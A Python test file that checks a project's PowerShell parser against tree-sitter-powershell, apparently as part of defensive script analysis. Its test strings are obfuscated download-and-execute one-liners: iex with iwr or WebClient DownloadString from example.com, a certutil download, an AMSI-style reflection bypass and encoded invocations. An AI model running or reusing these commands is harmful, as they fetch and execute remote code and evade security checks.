"""Our grammar against tree-sitter-powershell, as far as that one goes: the same commands, and nothing left unread."""

from __future__ import annotations

import dataclasses
from collections.abc import Iterator

import pytest
import tree_sitter
import tree_sitter_powershell

from tidewaiter.reading.budget import Budget
from tidewaiter.reading.powershell_nodes import Command, Node
from tidewaiter.reading.powershell_statements import StatementParser

SCRIPTS = [
    "iex (iwr -Uri 'http://example.com/b' -OutF:x -useb).Content",
    "$x = (New-Object Net.WebClient).('Down'+'load').Invoke(\"http://$h/x`n\", 'b'); & $x a b",
    "[IO.File]::WriteAllBytes('a',$b) > f 2>$null",
    "foreach($u in $a.Split('*')){try{$w.DownloadFile($u,$p);break}catch{Write-Host $_}}",
    "('{1}{0}' -f 'a','b') -join ','; $env:comspec[4,15,25]-join''; &('i'+'ex') x; ${a b}=1",
    "if(!(Test-Path a)){iwr x -o a}elseif($b -ge 3){b}else{c}",
    "(1, 2)|%{iwr \"http://example.com/$_\"}",
    "$h=@{Uri='http://example.com';OutFile='a'};iwr @h",
    "gci | ?{$_.Name -eq 'x'} | select -exp Name",
    "Invoke-Command -ComputerName a -ScriptBlock {iwr x -o y}",
    "[Ref].Assembly.GetType('a').GetField('b','NonPublic,Static').SetValue($null,$true)",
    "do{iwr a}until($x); while($true){iwr x;sleep 5}; for($i=0;$i -lt 3;$i++){echo $i}",
    "$b=[byte[]](1,2,3); $c=$b -bxor 0x41; $d='a'*3; $s[-1..-9] -join ''",
    "-join[regex]::Matches(\"cba\",'.','RightToLeft')|iex",
    "function F($a,[string]$b='x'){ return $a }; F 1 -b 2",
    "@'\niwr x\n'@ | iex\n@\"\n$(gps)\n\"@ | Out-File y",
    "iwr `\n -Uri http://example.com/x `\n -OutFile y # tail\n<# iwr no #> gps",
    "$t=\"a$(gps)b${c}d$($e.f(1))\"",
    "try{iwr x}catch [Net.WebException]{y}finally{z}",
    "irm x –OutFile y; i`e`x 'a'; &{gps}; . {gsv}",
    "switch ($a) { 'b' { iwr c } default { d } }",
]  # fmt: skip
KNOWN_TO_FAIL_THERE = [
    "iex(New-Object Net.WebClient).DownloadString('http://example.com')",
    "certutil.exe -urlcache -split -f http://example.com/y C:\\a.exe",
    "iwr http://example.com -OutFile $env:temp\\x.exe",
    "(nslookup -q=txt example.com 2>$null)[-1]",
    "function F{param($c) return $a}",
    "&(gcm *w-O*)Net.WebClient",
    "$x -ge 3KB",
]


def ours(text: str) -> tuple[int, bool]:
    parser = StatementParser(text, Budget(cpu_seconds=5))
    found = sum(isinstance(node, Command) for node in walk(parser.script()))
    return found, not parser.incomplete


def walk(value: object) -> Iterator[Node]:
    if isinstance(value, list | tuple):
        for item in value:
            yield from walk(item)
    elif isinstance(value, Node):
        yield value
        for field in dataclasses.fields(value):
            yield from walk(getattr(value, field.name))


def theirs(text: str) -> tuple[int, bool]:
    parser = tree_sitter.Parser(tree_sitter.Language(tree_sitter_powershell.language()))
    root = parser.parse(text.encode()).root_node
    waiting, found = [root], 0
    while waiting:
        node = waiting.pop()
        found += node.type == "command"
        waiting.extend(node.children)
    return found, not root.has_error


@pytest.mark.parametrize("text", SCRIPTS)
def test_same_commands(text: str) -> None:
    commands, complete = theirs(text)
    if complete:
        assert ours(text) == (commands, True)
    else:
        assert ours(text)[1]


@pytest.mark.parametrize("text", KNOWN_TO_FAIL_THERE)
def test_command_mode_needs_more_than_the_other_grammar(text: str) -> None:
    assert not theirs(text)[1], "the other grammar has learned this: the decision for our own may be looked at again"
    assert ours(text)[1]
